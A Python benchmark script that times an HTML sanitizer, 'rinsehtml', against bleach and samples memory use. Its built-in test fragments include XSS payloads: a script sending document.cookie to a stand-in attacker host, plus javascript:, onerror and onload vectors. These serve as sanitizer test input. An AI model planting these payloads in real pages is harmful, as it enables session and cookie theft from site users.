#!/usr/bin/env python3
"""
Performance benchmark for rinsehtml against other HTML sanitizers.
Cleans a set of HTML fragments, either a built-in sample of hostile and
ordinary markup or every *.html file in a directory.
"""

# ruff: noqa: PERF203, PLC0415, BLE001, S110
from __future__ import annotations

import argparse
import multiprocessing
import os  # MEMORY: added
import pathlib
import sys
import threading  # MEMORY: added
import time

# MEMORY: optional dependency for RSS sampling
try:
    import psutil

    _PSUTIL_AVAILABLE = True
except Exception:
    psutil = None
    _PSUTIL_AVAILABLE = False


SAMPLE_FRAGMENTS = [
    (
        "comment.html",
        '<p>Great post! <a href="/profile/42" onclick="steal()">me</a></p>'
        "<script>document.location='http://evil.example/?'+document.cookie</script>",
    ),
    (
        "article.html",
        "<h2>Chapter 1</h2>"
        + "<p class=\"body\">It is a truth <em>universally</em> acknowledged &amp; so on.</p>" * 40
        + '<blockquote cite="quotes/austen.html">Quote</blockquote><img src="img/cover.png" alt="cover">',
    ),
    (
        "table.html",
        "<table border=1><tr>"
        + "<td nowrap style=\"color:red\" title='cell'>value &lt; 10</td>" * 200
        + "</tr></table>",
    ),
    (
        "hostile.html",
        "<applet code=x><b>hidden</b></applet><iframe src=javascript:alert(1)></iframe>"
        "<img src=x onerror=alert(1)><![CDATA[<script>alert(2)</script><i>cdata</i>]]>"
        "<!-- <script>alert(3)</script> --><svg onload=alert(4)><circle/></svg>" * 20,
    ),
    (
        "unclosed.html",
        "<div><p><b>bold <i>italic" * 50 + "<br><br/><hr>" * 20,
    ),
]


# MEMORY: lightweight RSS monitor using psutil
class MemoryMonitor:
    def __init__(self, pid: int | None = None, sample_interval: float = 0.01):
        """
        pid: process ID to monitor (default: current process).
        sample_interval: seconds between samples (default 10ms).
        """
        self.sample_interval = sample_interval
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        target_pid = pid if pid is not None else os.getpid()
        self._proc = psutil.Process(target_pid) if _PSUTIL_AVAILABLE else None
        self.start_rss = None
        self.end_rss = None
        self.peak_rss = None
        self.last_rss = None
        self.samples = 0

    def _get_rss(self) -> int | None:
        if not self._proc:
            return None
        try:
            return self._proc.memory_info().rss
        except Exception:
            return None

    def start(self):
        if not _PSUTIL_AVAILABLE:
            return
        self.start_rss = self._get_rss()
        self.peak_rss = self.start_rss
        self._stop.clear()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.is_set():
            rss = self._get_rss()
            if rss is not None:
                self.last_rss = rss
                if self.peak_rss is None or rss > self.peak_rss:
                    self.peak_rss = rss
                self.samples += 1
            self._stop.wait(self.sample_interval)

    def stop(self):
        if not _PSUTIL_AVAILABLE:
            return
        self._stop.set()
        if self._thread:
            self._thread.join(timeout=1.0)

        # Try to get current RSS, if fail (process dead), use last seen
        current = self._get_rss()
        if current and current > 0:
            self.end_rss = current
        else:
            self.end_rss = self.last_rss

    def to_dict(self) -> dict:
        if not _PSUTIL_AVAILABLE:
            return {"memory_note": "psutil not installed; memory metrics skipped"}

        def mb(x):
            return (x or 0) / (1024 * 1024)

        start_mb = mb(self.start_rss)
        end_mb = mb(self.end_rss)
        delta_mb = end_mb - start_mb if (self.end_rss is not None and self.start_rss is not None) else 0.0
        return {
            "rss_start_mb": start_mb,
            "rss_end_mb": end_mb,
            "rss_delta_mb": delta_mb,
            "rss_peak_mb": mb(self.peak_rss),
            "mem_samples": self.samples,
        }


def load_fragments(fragments_dir: pathlib.Path, limit: int | None = None) -> list[tuple[str, str]]:
    """
    Load every *.html file in ``fragments_dir``.
    Returns list of (filename, html_content) tuples.
    """
    if not fragments_dir.is_dir():
        print(f"ERROR: Fragments directory not found at {fragments_dir}")
        sys.exit(1)
    html_files = sorted(fragments_dir.glob("*.html"))
    if limit:
        html_files = html_files[:limit]
    return [(path.name, path.read_text(encoding="utf-8", errors="replace")) for path in html_files]


def _time_cleaner(clean_fn, html_files: list, iterations: int) -> dict:
    times = []
    errors = 0
    error_files = []
    if html_files:
        try:
            clean_fn(html_files[0][1])
        except Exception:
            pass
    for _ in range(iterations):
        for filename, html in html_files:
            try:
                start = time.perf_counter()
                result = clean_fn(html)
                elapsed = time.perf_counter() - start
                times.append(elapsed)
                _ = len(result)
            except Exception as e:
                errors += 1
                error_files.append((filename, str(e)))
    return {
        "total_time": sum(times),
        "mean_time": sum(times) / len(times) if times else 0,
        "min_time": min(times) if times else 0,
        "max_time": max(times) if times else 0,
        "errors": errors,
        "success_count": len(times),
        "error_files": error_files,
    }


def benchmark_rinsehtml(html_files: list, iterations: int = 1) -> dict:
    """Benchmark rinsehtml without the normalizing pass."""
    try:
        from rinsehtml import Sanitizer
    except ImportError:
        return {"error": "rinsehtml not importable"}
    sanitizer = Sanitizer(base_uri="http://example.com/")
    return _time_cleaner(sanitizer.clean, html_files, iterations)


def benchmark_rinsehtml_normalized(html_files: list, iterations: int = 1) -> dict:
    """Benchmark rinsehtml followed by the html5lib normalizer."""
    try:
        from rinsehtml import Sanitizer
    except ImportError:
        return {"error": "rinsehtml not importable"}
    sanitizer = Sanitizer(base_uri="http://example.com/", use_normalizer=True)
    return _time_cleaner(sanitizer.clean, html_files, iterations)


def benchmark_bleach(html_files: list, iterations: int = 1) -> dict:
    """Benchmark bleach with the same element and attribute whitelists."""
    try:
        import bleach
    except ImportError:
        return {"error": "bleach not installed (pip install bleach)"}
    from rinsehtml import ACCEPTABLE_ATTRIBUTES, ACCEPTABLE_ELEMENTS

    tags = set(ACCEPTABLE_ELEMENTS)
    attributes = list(ACCEPTABLE_ATTRIBUTES)

    def clean(html):
        return bleach.clean(html, tags=tags, attributes=attributes, strip=True, strip_comments=True)

    return _time_cleaner(clean, html_files, iterations)


def _benchmark_worker(bench_fn, html_files, iterations, queue):
    """Worker function to run benchmark in a separate process."""
    try:
        res = bench_fn(html_files, iterations)
        queue.put(res)
    except Exception as e:
        queue.put({"error": str(e)})


def run_benchmark_isolated(bench_fn, html_files, iterations, args):
    """Run benchmark in a separate process to isolate memory usage."""
    if args.no_mem or not _PSUTIL_AVAILABLE:
        return bench_fn(html_files, iterations)

    import gc
    gc.collect()

    queue = multiprocessing.Queue()
    p = multiprocessing.Process(
        target=_benchmark_worker,
        args=(bench_fn, html_files, iterations, queue)
    )
    p.start()

    # Monitor the child process
    mon = MemoryMonitor(pid=p.pid, sample_interval=max(0.0005, args.mem_sample_ms / 1000.0))
    mon.start()

    res = None
    try:
        res = queue.get()
    finally:
        mon.stop()
        p.join()

    if res and "error" not in res:
        res.update(mon.to_dict())
    return res


BENCHMARKS = {
    "rinsehtml": benchmark_rinsehtml,
    "rinsehtml_normalized": benchmark_rinsehtml_normalized,
    "bleach": benchmark_bleach,
}


def print_results(results: dict, file_count: int, iterations: int = 1):
    """Pretty print benchmark results."""
    print("\n" + "=" * 100)
    if iterations > 1:
        print(f"BENCHMARK RESULTS ({file_count} fragments x {iterations} iterations)")
    else:
        print(f"BENCHMARK RESULTS ({file_count} fragments)")
    print("=" * 100)

    header = f"\n{'Sanitizer':<22} {'Total (s)':<10} {'Mean (ms)':<10} {'Peak (MB)':<10} {'Delta (MB)':<10} {'Errors':<8}"
    print(header)
    print("-" * 100)

    baseline = results.get("rinsehtml", {}).get("total_time", 0)

    for name in BENCHMARKS:
        if name not in results:
            continue
        result = results[name]
        if "error" in result:
            print(f"{name:<22} {result['error']}")
            continue

        total = result["total_time"]
        mean_ms = result["mean_time"] * 1000
        peak_mb = result.get("rss_peak_mb", 0)
        delta_mb = result.get("rss_delta_mb", 0)
        mem_str = f"{peak_mb:>10.1f} {delta_mb:>10.1f}" if "rss_peak_mb" in result else f"{'n/a':>10} {'n/a':>10}"

        ratio = ""
        if name != "rinsehtml" and baseline > 0 and total > 0:
            ratio = f" ({total / baseline:.2f}x)"

        print(f"{name:<22} {total:<10.3f} {mean_ms:<10.3f} {mem_str} {result['errors']:<8}{ratio}")

    print("\n" + "=" * 100)

    for name in BENCHMARKS:
        error_files = results.get(name, {}).get("error_files", [])
        if error_files:
            print(f"\nErrors for {name}:")
            for filename, error_msg in error_files:
                print(f"  {filename}: {error_msg}")
            print()


def main():
    parser = argparse.ArgumentParser(
        description="Benchmark HTML fragment sanitizers",
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument(
        "--fragments-dir",
        type=pathlib.Path,
        help="Directory of *.html fragments to clean (default: built-in samples)",
    )
    parser.add_argument(
        "--limit", type=int, default=100, help="Limit number of files to load (default: 100, use 0 for all)",
    )
    parser.add_argument(
        "--iterations", type=int, default=20, help="Number of iterations to run for averaging (default: 20)",
    )
    parser.add_argument(
        "--sanitizers",
        nargs="+",
        choices=list(BENCHMARKS),
        default=list(BENCHMARKS),
        help="Sanitizers to benchmark (default: all)",
    )
    # MEMORY: options
    parser.add_argument("--no-mem", action="store_true", help="Disable memory measurement (RSS sampling)")
    parser.add_argument(
        "--mem-sample-ms", type=float, default=10.0, help="Memory sampling interval in milliseconds (default: 10ms)",
    )

    args = parser.parse_args()

    limit = args.limit if args.limit > 0 else None
    if args.fragments_dir:
        print(f"Loading fragments from {args.fragments_dir}...")
        html_files = load_fragments(args.fragments_dir, limit)
    else:
        html_files = SAMPLE_FRAGMENTS[:limit]
    if not html_files:
        print("ERROR: No HTML fragments loaded")
        sys.exit(1)
    print(f"Loaded {len(html_files)} fragments")

    total_bytes = sum(len(html) for _, html in html_files)
    print(f"Total HTML size: {total_bytes / 1024:.1f} KB")

    if not _PSUTIL_AVAILABLE and not args.no_mem:
        print("Note: psutil not installed; memory metrics will be skipped. Install with: pip install psutil")

    results = {}
    for name in args.sanitizers:
        print(f"\nBenchmarking {name}...", end="", flush=True)
        res = run_benchmark_isolated(BENCHMARKS[name], html_files, args.iterations, args)
        results[name] = res
        if "error" in res:
            print(f" SKIPPED ({res['error']})")
        else:
            print(
                f" DONE ({res['total_time']:.3f}s"
                + (f", peak RSS {res.get('rss_peak_mb', 0):.1f} MB" if "rss_peak_mb" in res else "")
                + ")",
            )

    print_results(results, len(html_files), args.iterations)


if __name__ == "__main__":
    main()
